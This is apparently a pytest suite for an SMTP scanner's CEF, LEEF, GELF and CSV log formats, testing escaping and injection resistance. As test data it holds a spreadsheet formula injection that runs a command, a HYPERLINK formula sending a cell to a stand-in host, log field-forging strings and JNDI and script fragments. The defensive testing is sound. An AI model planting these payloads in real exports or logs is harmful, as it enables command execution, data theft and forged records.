"""CEF, LEEF, GELF and CSV: read back by readers that are not ours, every value is what the record says."""

import csv
import io
import json
import re
from dataclasses import replace
from typing import Any, Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.errors import InputError
from scanner.formats import FORMATS, Event, make_format
from scanner.formats.cef import cut
from scanner.formats.columns import COLUMNS, row_of, text_of
from scanner.formats.csv_rows import csv_header, csv_row
from scanner.formats.plain import plain, plain_text
from scanner.formats.suspicion import suspicions
from scanner.version import VERSION
from tests.receivers import hostile
from tests.support.formats_corpus import Line, line_of, record_of, records, run_lines
from tests.support.log_readers import LogLine, read_cef, read_leef
from tests.support.records import FLAW, full_record

CORPUS: Final = records()
PRINTABLE: Final = re.compile(rb"[ -~]*")


def one(name: str, line: Line) -> Event:
    (event,) = make_format(name).events(*line)
    return event


def row(line: Line) -> dict[str, Any]:
    return row_of(plain(*line), suspicions(*line))


def cef_of(line: Line) -> LogLine:
    return read_cef(one("cef", line).body.decode("ascii"))


def leef_of(line: Line) -> LogLine:
    return read_leef(one("leef", line).body.decode("ascii"))


def cells(line: Line) -> list[str]:
    """Read a row back with Python's reader, and take the apostrophes off again."""
    (read,) = csv.reader(io.StringIO(csv_row(*line).decode("ascii"), newline=""), strict=True)
    return [cell.removeprefix("'") for cell in read]


@pytest.mark.parametrize("name", CORPUS)
def test_cef_read_back_has_the_values_of_the_record(name: str) -> None:
    line = CORPUS[name]
    header, fields = cef_of(line)
    expected = row(line)

    assert header[:5] == ["CEF:0", "smtpsweep", "smtpsweep", VERSION, f"smtp-{line.record['status']}"]
    assert fields.get("msg", "") == cut(expected["banner"] or "", 1023)
    assert fields["externalId"] == line.record["event_id"]
    assert fields.get("dst", fields.get("c6a3", "")) == (expected["ip"] or "")
    labelled = {fields[f"{key}Label"]: value for key, value in fields.items() if f"{key}Label" in fields}
    assert labelled["scanId"] == expected["scan_id"]
    assert labelled.get("software", "") == text_of(expected["product"])
    assert labelled.get("softwareVersion", "") == text_of(expected["version"])
    assert labelled.get("knownFlaws", "").startswith(text_of(expected["flaws"]))
    assert labelled.get("smtpCode", "") == text_of(expected["code"])
    assert labelled.get("greetingName", "") == text_of(expected["greeting_host"])


@pytest.mark.parametrize("name", CORPUS)
def test_leef_read_back_has_the_values_of_the_record(name: str) -> None:
    line = CORPUS[name]
    header, fields = leef_of(line)

    assert header == ["LEEF:2.0", "smtpsweep", "smtpsweep", VERSION, line.record["status"], "x09"]
    names = {"ip": "dst", "port": "dstPort", "greeting_host": "identHostName"}
    expected = {names.get(key, key): text_of(value) for key, value in row(line).items() if text_of(value)}
    expected.pop("observed_at", None)
    for key in ("devTime", "cat", "sev", "proto"):
        value = fields.pop(key, None)
        assert value is not None or key == "devTime"
    assert fields == expected


@pytest.mark.parametrize("name", CORPUS)
def test_gelf_keeps_its_specification_and_has_the_values_of_the_record(name: str) -> None:
    line = CORPUS[name]
    message = json.loads(one("gelf", line).body)
    expected = row(line)

    assert message["version"] == "1.1"
    assert message["short_message"]
    assert message.get("full_message") == (expected["banner"] or None)
    for key, value in message.items():
        assert isinstance(value, str | int | float)
        assert not isinstance(value, bool)
        if key.startswith("_"):
            assert re.fullmatch(r"_[\w.-]+", key)
            assert key != "_id"
            assert value == expected[key[1:]] or value == text_of(expected[key[1:]])
    assert {key[1:] for key in message if key.startswith("_")} == {
        key for key, value in expected.items() if text_of(value)
    }


@pytest.mark.parametrize("name", CORPUS)
def test_csv_read_back_has_the_values_of_the_record_and_no_formula(name: str) -> None:
    line = CORPUS[name]

    assert cells(line) == [text_of(value) for value in row(line).values()]
    (raw,) = csv.reader(io.StringIO(csv_row(*line).decode("ascii"), newline=""), strict=True)
    for cell, column in zip(raw, COLUMNS, strict=True):
        assert cell[:1] not in set("=+@") or COLUMNS[column] in {"BIGINT", "DOUBLE", "INTEGER"}


@pytest.mark.parametrize("name", FORMATS)
def test_no_body_of_any_format_has_a_control_character_or_a_line_end(name: str) -> None:
    for line in CORPUS.values():
        for event in make_format(name).events(*line):
            if name == "native":
                assert event.body == line.line
                continue
            assert PRINTABLE.fullmatch(event.body.replace(b"\t", b"") if name == "leef" else event.body)


@pytest.mark.parametrize("name", FORMATS)
def test_the_events_of_a_record_have_ids_of_their_own_that_are_the_same_each_time(name: str) -> None:
    for line in CORPUS.values():
        first, again = ([event.id for event in make_format(name).events(*line)] for _ in range(2))

        assert first == again
        assert len(set(first)) == len(first)
        assert first[0] == line.record["event_id"]
        assert all(each.startswith(f"{first[0]}-") for each in first[1:])


@pytest.mark.parametrize("name", sorted(set(FORMATS) - {"ocsf"}))
def test_lines_about_the_run_are_written_by_ocsf_only(name: str) -> None:
    assert [event for line in run_lines() for event in make_format(name).events(*line)] == []


def test_a_greeting_that_forges_fields_stays_in_its_field() -> None:
    line = CORPUS["cef_field"]

    assert b"msg=220 x src\\=10.0.0.1 msg\\=forged act\\=blocked" in one("cef", line).body
    assert "src" not in cef_of(line).fields
    assert leef_of(CORPUS["leef_tab"]).fields["banner"] == "220 x\\x09src=10.0.0.1\\x09sev=1"


def test_an_ipv6_address_has_the_key_that_takes_one() -> None:
    fields = cef_of(CORPUS["ipv6"]).fields

    assert (fields["c6a3"], fields["c6a3Label"]) == ("2001:db8::25", "Destination IPv6 Address")
    assert "dst" not in fields
    assert fields["dhost"] == "mail.example.com"


def test_severity_follows_the_worst_finding_that_is_not_fixed() -> None:
    fixed = line_of(full_record()._replace(findings=(replace(FLAW, severity="critical", verdict="vendor_fixed"),)))
    critical = line_of(full_record()._replace(findings=(FLAW, replace(FLAW, id="CVE-2020-1", severity="critical"))))

    assert [cef_of(line).header[6] for line in (CORPUS["postfix"], CORPUS["full"], fixed, critical)] == [
        *("1", "5", "1", "10"),
    ]
    assert [one("gelf", line).severity for line in (CORPUS["postfix"], CORPUS["full"], fixed, critical)] == [6, 4, 6, 2]


def test_a_long_greeting_is_cut_between_escapes_and_says_so() -> None:
    fields = cef_of(CORPUS["long_eight_bit"]).fields

    assert len(fields["msg"]) <= 1023
    assert re.fullmatch(r"220 (?:\\xff)+", fields["msg"])
    assert fields["cs5"].endswith("cut")


@pytest.mark.parametrize(
    ("text", "limit", "kept"),
    [
        ("abcdef", 6, "abcdef"),
        ("abcdef", 5, "abcde"),
        ("ab\\x1bc", 5, "ab"),
        ("ab\\x1bc", 6, "ab\\x1b"),
        ("ab\\\\c", 3, "ab"),
        ("\\", 0, ""),
        ("\\\\\\xzz", 3, "\\\\\\"),
    ],
)
def test_a_text_is_never_cut_inside_of_an_escape(text: str, limit: int, kept: str) -> None:
    assert cut(text, limit) == kept


def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe_and_a_number_does_not() -> None:
    line = line_of(record_of(host="=cmd|' /C calc'!A0", clock_skew_s=-5))
    read = next(csv.reader(io.StringIO(csv_row(*line).decode("ascii"), newline=""), strict=True))
    by_name = dict(zip(COLUMNS, read, strict=True))

    assert by_name["host"] == "'=cmd|' /C calc'!A0"
    assert by_name["clock_skew_s"] == "-5"
    assert csv_header().startswith(b'"observed_at","ip","port",')
    assert csv_row(*line).endswith(b'"\r\n')
    assert csv_row(*line).count(b"\n") == 1


def test_a_cell_that_begins_with_an_apostrophe_comes_back_with_it() -> None:
    line = line_of(record_of(host="'=1"))

    assert cells(line)[list(COLUMNS).index("host")] == "'=1"


def test_a_field_that_would_end_its_cell_does_not() -> None:
    banner = cells(CORPUS["csv_field_break"])[list(COLUMNS).index("banner")]

    assert banner == '220 mail",=HYPERLINK("http://192.0.2.66/?x="&A1),"'


def test_an_unknown_format_is_named_with_those_there_are() -> None:
    with pytest.raises(InputError, match=r"format 'xml': must be one of native, ecs, ocsf, cef, leef, gelf"):
        make_format("xml")


@pytest.mark.parametrize("name", FORMATS)
def test_a_format_says_its_name_and_whether_it_is_json(name: str) -> None:
    made = make_format(name)

    assert made.name == name
    assert made.is_json is (name not in {"cef", "leef"})


def test_texts_that_nobody_escaped_become_printable_ascii() -> None:
    odd = "a\n\t\x1b\u2028\U0001f600\x7f|"
    line = line_of(record_of(host=odd))

    assert plain_text(odd) == "a\\u000a\\u0009\\u001b\\u2028\\U0001f600\\u007f|"
    assert plain(*line)["host"] == plain_text(odd)
    edited: Any = {odd: [odd, 1, None]}
    assert plain(edited, b"\xff") == {plain_text(odd): [plain_text(odd), 1, None]}


@pytest.mark.parametrize("odd", ["\b", "\t", "\n", "\f", "\r", "\x01", "\x1b", "\x7f", "\x85", "\u2028", "\U0001f600"])
def test_one_odd_character_anywhere_is_enough(odd: str) -> None:
    line = line_of(record_of(b"220 ok\r\n", host=f"a{odd}b"))

    assert plain(*line)["host"] == f"a{plain_text(odd)}b"
    assert plain(*line)["host"].isprintable()


def test_a_plain_record_is_not_copied() -> None:
    line = CORPUS["nul"]

    assert plain(*line) is line.record


_TEXT = st.text(st.characters(codec="utf-8"), max_size=30)


@settings(max_examples=150)
@given(raw=st.binary(max_size=200), host=_TEXT, error=_TEXT)
def test_any_bytes_and_any_names_come_back_from_cef_leef_and_csv(raw: bytes, host: str, error: str) -> None:
    line = line_of(record_of(b"220 " + raw + b"\r\n", host=host, error=error))
    expected = row(line)

    assert cef_of(line).fields.get("msg", "") == cut(expected["banner"], 1023)
    assert cef_of(line).fields.get("dhost", "") == expected["host"]
    assert leef_of(line).fields["banner"] == expected["banner"]
    assert leef_of(line).fields.get("error", "") == expected["error"]
    assert cells(line) == [text_of(value) for value in expected.values()]


@settings(max_examples=200)
@given(text=_TEXT)
def test_plain_text_is_printable_ascii_and_different_texts_of_one_line_stay_different(text: str) -> None:
    assert re.fullmatch(r"[ -~]*", plain_text(text))
    assert plain_text(plain_text(text)) == plain_text(text)


def test_the_corpus_holds_what_it_promises() -> None:
    whole = b"".join(hostile.GREETINGS.values())

    for part in (b"\x1b[", b"=cmd|", b"<script>", b"${jndi:", "\u2028".encode(), b"\x00", b"\xff", b"]]>", b" src=10."):
        assert part in whole
    assert len(hostile.records()) == len(hostile.GREETINGS) + len(hostile.TEXTS)
